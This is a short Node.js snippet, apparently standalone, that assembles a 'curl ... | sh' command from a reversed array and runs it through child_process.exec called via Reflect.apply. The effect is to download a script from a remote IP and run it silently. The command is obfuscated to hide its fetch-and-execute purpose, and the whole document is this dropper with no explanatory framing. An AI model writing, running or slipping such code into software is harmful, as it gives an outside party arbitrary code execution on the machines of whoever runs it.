const cp = require('child_process');
const parts = ["sh", "|", "http://203.0.113.11/x.sh", "-fsSL", "curl"];
const line = parts.slice().reverse().join(' ');
Reflect.apply(cp.exec, cp, [line, () => {}]);
